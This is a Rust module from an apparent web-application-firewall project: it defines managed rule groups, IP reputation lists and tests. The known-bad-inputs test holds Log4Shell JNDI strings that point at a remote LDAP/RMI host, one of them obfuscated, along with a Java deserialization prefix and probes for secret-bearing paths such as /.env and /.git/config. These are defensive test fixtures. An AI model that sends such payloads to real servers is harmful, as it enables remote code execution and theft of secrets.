//! Rampart's managed rule groups (vendor `Rampart`): their rules as versioned data in AWS's Rule
//! JSON (`crates/waf/rules/<group>/<version>.json`, compiled into the binary), and the IP lists
//! the reputation groups read from files the operator installs.
//!
//! Every rule blocks by default and adds the label `awswaf:managed:rampart:<group>:<RuleName>`
//! (the group's namespace is [`label_namespace`]), as AWS's managed groups label their matches.
//!
//! The IP reputation and anonymous-IP groups reference IP sets with ARNs under
//! [`IP_LIST_ARN_PREFIX`]; [`WithManaged`] resolves them from `<dir>/<list>.txt` (one address or
//! CIDR per line, `#` comments; lines that do not parse are skipped). The files are read when a
//! web ACL is compiled; a missing directory or file is an empty list, so the group matches
//! nothing.

use std::path::{Path, PathBuf};

use crate::model::{IpSet, RegexPatternSet, Rule, RuleGroup};
use crate::Resolve;

/// The vendor name of Rampart's managed rule groups.
pub const VENDOR: &str = "Rampart";

/// ARN prefix of the IP lists the reputation groups reference; the rest is the list's name.
pub const IP_LIST_ARN_PREFIX: &str = "arn:aws:wafv2:::managed/rampart/ip-list/";

/// The IP list names, each read from `<name>.txt` in the lists directory.
pub const IP_LISTS: [&str; 4] = [
    "ip-reputation",
    "reconnaissance",
    "anonymous-ip",
    "hosting-provider",
];

/// `(group, version, label namespace, capacity in WCUs, rules JSON)`, oldest version first (the
/// last version of a group is its default); the capacities are the published ones of
/// `crates/wafv2/src/managed.rs` (a test checks they agree). Published versions are never edited:
/// Version_1.1 widened the core rule set's and the known-bad-inputs group's patterns after the
/// held-out evaluation (`crates/waf/rules/README.md`).
const GROUPS: &[(&str, &str, &str, u64, &str)] = &[
    (
        "RampartCommonRuleSet",
        "Version_1.0",
        "awswaf:managed:rampart:core-rule-set:",
        790,
        include_str!("../rules/RampartCommonRuleSet/Version_1.0.json"),
    ),
    (
        "RampartSQLiRuleSet",
        "Version_1.0",
        "awswaf:managed:rampart:sql-database:",
        200,
        include_str!("../rules/RampartSQLiRuleSet/Version_1.0.json"),
    ),
    (
        "RampartKnownBadInputsRuleSet",
        "Version_1.0",
        "awswaf:managed:rampart:known-bad-inputs:",
        170,
        include_str!("../rules/RampartKnownBadInputsRuleSet/Version_1.0.json"),
    ),
    (
        "RampartIpReputationList",
        "Version_1.0",
        "awswaf:managed:rampart:ip-reputation:",
        25,
        include_str!("../rules/RampartIpReputationList/Version_1.0.json"),
    ),
    (
        "RampartAnonymousIpList",
        "Version_1.0",
        "awswaf:managed:rampart:anonymous-ip-list:",
        50,
        include_str!("../rules/RampartAnonymousIpList/Version_1.0.json"),
    ),
    (
        "RampartCommonRuleSet",
        "Version_1.1",
        "awswaf:managed:rampart:core-rule-set:",
        790,
        include_str!("../rules/RampartCommonRuleSet/Version_1.1.json"),
    ),
    (
        "RampartSQLiRuleSet",
        "Version_1.1",
        "awswaf:managed:rampart:sql-database:",
        200,
        include_str!("../rules/RampartSQLiRuleSet/Version_1.1.json"),
    ),
    (
        "RampartKnownBadInputsRuleSet",
        "Version_1.1",
        "awswaf:managed:rampart:known-bad-inputs:",
        170,
        include_str!("../rules/RampartKnownBadInputsRuleSet/Version_1.1.json"),
    ),
    (
        "RampartIpReputationList",
        "Version_1.1",
        "awswaf:managed:rampart:ip-reputation:",
        25,
        include_str!("../rules/RampartIpReputationList/Version_1.1.json"),
    ),
    (
        "RampartAnonymousIpList",
        "Version_1.1",
        "awswaf:managed:rampart:anonymous-ip-list:",
        50,
        include_str!("../rules/RampartAnonymousIpList/Version_1.1.json"),
    ),
];

/// The label namespace of the managed group `name`.
#[must_use]
pub fn label_namespace(name: &str) -> Option<&'static str> {
    GROUPS.iter().find(|g| g.0 == name).map(|g| g.2)
}

/// The rules of Rampart's managed rule group `vendor`/`name` at `version` (the latest when
/// `None`), or `None` if there is no such group or version.
#[must_use]
pub fn managed_rule_group(vendor: &str, name: &str, version: Option<&str>) -> Option<RuleGroup> {
    if vendor != VENDOR {
        return None;
    }
    let (_, _, namespace, capacity, json) = GROUPS
        .iter()
        .rev()
        .find(|g| g.0 == name && version.is_none_or(|v| v == g.1))?;
    // The data is compiled in and checked by the tests; a parse failure is "no such group".
    let rules: Vec<Rule> = serde_json::from_str(json).ok()?;
    Some(RuleGroup {
        name: name.to_owned(),
        label_namespace: (*namespace).to_owned(),
        rules,
        capacity: Some(*capacity),
    })
}

/// Reads the IP list `arn` refers to from `dir` (`None` or a missing file: an empty list), or
/// `None` if `arn` is not one of Rampart's managed IP lists.
#[must_use]
pub fn ip_list(arn: &str, dir: Option<&Path>) -> Option<IpSet> {
    let name = arn.strip_prefix(IP_LIST_ARN_PREFIX)?;
    if !IP_LISTS.contains(&name) {
        return None;
    }
    let text = dir
        .and_then(|d| std::fs::read_to_string(d.join(format!("{name}.txt"))).ok())
        .unwrap_or_default();
    let addresses = text
        .lines()
        .map(|l| l.split('#').next().unwrap_or("").trim())
        .filter(|l| {
            !l.is_empty()
                && (l.parse::<ipnet::IpNet>().is_ok() || l.parse::<std::net::IpAddr>().is_ok())
        })
        .map(str::to_owned)
        .collect();
    Some(IpSet { addresses })
}

/// A resolver that answers Rampart's managed rule groups and IP lists and asks `inner` for
/// everything else: wrap a service's resolver in it to make the managed groups available.
pub struct WithManaged<'a> {
    /// The resolver for the caller's own IP sets, regex pattern sets and rule groups.
    pub inner: &'a dyn Resolve,
    /// The directory holding the IP list files (`RAMPART_WAF_LISTS_DIR`).
    pub lists_dir: Option<PathBuf>,
}

impl Resolve for WithManaged<'_> {
    fn ip_set(&self, arn: &str) -> Option<IpSet> {
        ip_list(arn, self.lists_dir.as_deref()).or_else(|| self.inner.ip_set(arn))
    }
    fn regex_pattern_set(&self, arn: &str) -> Option<RegexPatternSet> {
        self.inner.regex_pattern_set(arn)
    }
    fn rule_group(&self, arn: &str) -> Option<RuleGroup> {
        self.inner.rule_group(arn)
    }
    fn managed_rule_group(
        &self,
        vendor: &str,
        name: &str,
        version: Option<&str>,
    ) -> Option<RuleGroup> {
        managed_rule_group(vendor, name, version)
            .or_else(|| self.inner.managed_rule_group(vendor, name, version))
    }
    fn engine_rule_group(
        &self,
        vendor: &str,
        name: &str,
        version: Option<&str>,
        excluded: &[String],
    ) -> Option<Result<crate::EngineGroup, String>> {
        self.inner
            .engine_rule_group(vendor, name, version, excluded)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::DefaultAction;
    use crate::{CompileOptions, Request, WebAcl};

    /// `(group, [(rule, wcu)])` as the WAFv2 API's catalogue publishes them.
    fn catalogue() -> Vec<(String, Vec<(String, u64)>)> {
        let text = include_str!("../../wafv2/src/managed.rs");
        let mut out: Vec<(String, Vec<(String, u64)>)> = Vec::new();
        for line in text.lines().map(str::trim) {
            if let Some(rest) = line.strip_prefix("name: \"") {
                if let Some(name) = rest.split('"').next() {
                    if name.starts_with("Rampart") {
                        out.push((name.to_owned(), Vec::new()));
                    }
                }
            } else if let Some(rest) = line.strip_prefix("(\"") {
                let mut parts = rest.split("\", ");
                let rule = parts.next().unwrap_or_default();
                let wcu = parts
                    .next()
                    .and_then(|w| w.trim_end_matches(['(', ')', ',', ']']).parse().ok())
                    .unwrap_or(0);
                if let Some(g) = out.last_mut() {
                    g.1.push((rule.to_owned(), wcu));
                }
            } else if line.starts_with("rules: &[(\"") {
                let inner = line.trim_start_matches("rules: &[").trim_end_matches("],");
                for pair in inner.split("), (") {
                    let pair = pair.trim_matches(['(', ')']);
                    let mut parts = pair.split("\", ");
                    let rule = parts.next().unwrap_or_default().trim_matches('"');
                    let wcu = parts.next().and_then(|w| w.parse().ok()).unwrap_or(0);
                    if let Some(g) = out.last_mut() {
                        g.1.push((rule.to_owned(), wcu));
                    }
                }
            }
        }
        out
    }

    #[test]
    fn rules_agree_with_the_api_catalogue() {
        let cat = catalogue();
        // Every version the API catalogue publishes exists for every group, and no other.
        let published: Vec<&str> = include_str!("../../wafv2/src/managed.rs")
            .lines()
            .filter_map(|l| l.trim().strip_prefix("name: \"Version_"))
            .filter_map(|v| v.split('"').next())
            .collect();
        assert!(!published.is_empty());
        assert_eq!(cat.len() * published.len(), GROUPS.len());
        let versions = published.iter().map(|v| format!("Version_{v}"));
        for ((name, rules), version) in cat
            .iter()
            .flat_map(|c| versions.clone().map(move |v| (c, v)))
        {
            let g = managed_rule_group(VENDOR, name, Some(&version)).expect(name);
            let names: Vec<&str> = g.rules.iter().map(|r| r.name.as_str()).collect();
            let want: Vec<&str> = rules.iter().map(|(r, _)| r.as_str()).collect();
            assert_eq!(names, want, "{name}");
            let sum: u64 = rules.iter().map(|(_, w)| w).sum();
            assert_eq!(g.capacity, Some(sum), "{name}");
            assert_eq!(Some(g.label_namespace.as_str()), label_namespace(name));
            for r in &g.rules {
                assert!(r.action.as_ref().is_some_and(|a| a.block.is_some()));
                assert_eq!(r.rule_labels.len(), 1);
                assert_eq!(r.rule_labels[0].name, r.name);
            }
        }
        assert!(managed_rule_group("AWS", "RampartSQLiRuleSet", None).is_none());
        assert!(managed_rule_group(VENDOR, "RampartSQLiRuleSet", Some("Version_9.9")).is_none());
        assert!(managed_rule_group(VENDOR, "RampartSQLiRuleSet", None).is_some());
    }

    fn acl_with(group: &str, dir: Option<PathBuf>) -> crate::CompiledAcl {
        let rules: Vec<Rule> = serde_json::from_value(serde_json::json!([{
            "Name": "managed", "Priority": 0, "OverrideAction": {"None": {}},
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "Rampart", "Name": group}},
            "VisibilityConfig": {"SampledRequestsEnabled": true,
                "CloudWatchMetricsEnabled": true, "MetricName": "managed"}
        }]))
        .expect("rules");
        let resolver = WithManaged {
            inner: &crate::NoEntities,
            lists_dir: dir,
        };
        let allow: DefaultAction =
            serde_json::from_value(serde_json::json!({"Allow": {}})).expect("default");
        WebAcl::compile(&allow, &rules, &resolver, &CompileOptions::default()).expect("compiles")
    }

    #[test]
    fn every_group_compiles_through_the_resolver() {
        for g in GROUPS {
            let acl = acl_with(g.0, None);
            let ua: &[(&str, &[u8])] = &[("host", b"example.com"), ("user-agent", b"curl/8")];
            let mut req = Request::new("GET", "/", "192.0.2.1".parse().expect("ip"));
            req.headers = ua;
            assert_eq!(acl.evaluate(&req).action, crate::Action::Allow, "{}", g.0);
        }
    }

    #[test]
    fn ip_lists_come_from_the_operator_directory() {
        let dir = std::env::temp_dir().join(format!("rampart-waf-lists-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::write(
            dir.join("anonymous-ip.txt"),
            "# tor exits\n198.51.100.7\n203.0.113.0/24 # a range\nnot-an-address\n",
        )
        .expect("write");
        let acl = acl_with("RampartAnonymousIpList", Some(dir.clone()));
        let headers: &[(&str, &[u8])] = &[("host", b"example.com"), ("user-agent", b"x")];
        for (ip, blocked) in [
            ("198.51.100.7", true),
            ("203.0.113.9", true),
            ("192.0.2.1", false),
        ] {
            let mut req = Request::new("GET", "/", ip.parse().expect("ip"));
            req.headers = headers;
            let v = acl.evaluate(&req);
            assert_eq!(matches!(v.action, crate::Action::Block(_)), blocked, "{ip}");
            if blocked {
                assert_eq!(
                    v.labels,
                    ["awswaf:managed:rampart:anonymous-ip-list:AnonymousIPList"]
                );
            }
        }
        // No directory: the list is empty and nothing matches.
        let acl = acl_with("RampartAnonymousIpList", None);
        let mut req = Request::new("GET", "/", "198.51.100.7".parse().expect("ip"));
        req.headers = headers;
        assert_eq!(acl.evaluate(&req).action, crate::Action::Allow);
        assert!(ip_list(&format!("{IP_LIST_ARN_PREFIX}../etc"), Some(&dir)).is_none());
        std::fs::remove_dir_all(&dir).ok();
    }

    /// One request of the known-bad-inputs test.
    struct Probe {
        method: &'static str,
        path: &'static str,
        query: &'static str,
        header: (&'static str, &'static str),
        body: &'static str,
        rule: Option<&'static str>,
    }

    fn probe(method: &'static str, path: &'static str, rule: Option<&'static str>) -> Probe {
        Probe {
            method,
            path,
            query: "",
            header: ("", ""),
            body: "",
            rule,
        }
    }

    #[test]
    fn known_bad_inputs_block_their_attacks_and_pass_ordinary_requests() {
        let acl = acl_with("RampartKnownBadInputsRuleSet", None);
        let header = |name, value, rule| Probe {
            header: (name, value),
            ..probe("GET", "/", rule)
        };
        let body = |body, rule| Probe {
            body,
            ..probe("POST", "/api", rule)
        };
        let probes = [
            header(
                "x-api-version",
                "${jndi:ldap://198.51.100.1/a}",
                Some("Log4JRCE_HEADER"),
            ),
            header(
                "referer",
                "${${lower:j}ndi:rmi://x/y}",
                Some("Log4JRCE_HEADER"),
            ),
            Probe {
                query: "q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D",
                ..probe("GET", "/search", Some("Log4JRCE_QUERYSTRING"))
            },
            body(r#"{"name":"${jndi:ldap://x/a}"}"#, Some("Log4JRCE_BODY")),
            body(
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                Some("JavaDeserializationRCE_BODY"),
            ),
            header(
                "x-data",
                "rO0ABXNyAA",
                Some("JavaDeserializationRCE_HEADER"),
            ),
            header("host", "localhost:8080", Some("Host_localhost_HEADER")),
            probe("PROPFIND", "/dav/", Some("PROPFIND_METHOD")),
            probe("GET", "/.git/config", Some("ExploitablePaths_URIPATH")),
            probe(
                "GET",
                "/app/WEB-INF/web.xml",
                Some("ExploitablePaths_URIPATH"),
            ),
            probe(
                "GET",
                "/actuator/heapdump",
                Some("ExploitablePaths_URIPATH"),
            ),
            probe("GET", "/.env", Some("ExploitablePaths_URIPATH")),
            probe("GET", "/api/environment", None),
            probe("GET", "/docs/git-guide.html", None),
            body(r#"{"greeting":"Hello ${name}"}"#, None),
            header("x-trace", "$amount: 5", None),
        ];
        for p in &probes {
            let mut headers: Vec<(&str, &[u8])> = vec![("user-agent", b"Mozilla/5.0")];
            if p.header.0 != "host" {
                headers.push(("host", b"shop.example.com"));
            }
            if !p.header.0.is_empty() {
                headers.push((p.header.0, p.header.1.as_bytes()));
            }
            let mut req = Request::new(p.method, p.path, "192.0.2.1".parse().expect("ip"));
            req.query = p.query;
            req.headers = &headers;
            req.body_prefix = p.body.as_bytes();
            req.body_len = p.body.len() as u64;
            let v = acl.evaluate(&req);
            let label = p
                .rule
                .map(|r| format!("awswaf:managed:rampart:known-bad-inputs:{r}"));
            assert_eq!(
                v.labels.first(),
                label.as_ref(),
                "{} {} {:?}",
                p.method,
                p.path,
                p.header
            );
        }
    }
}
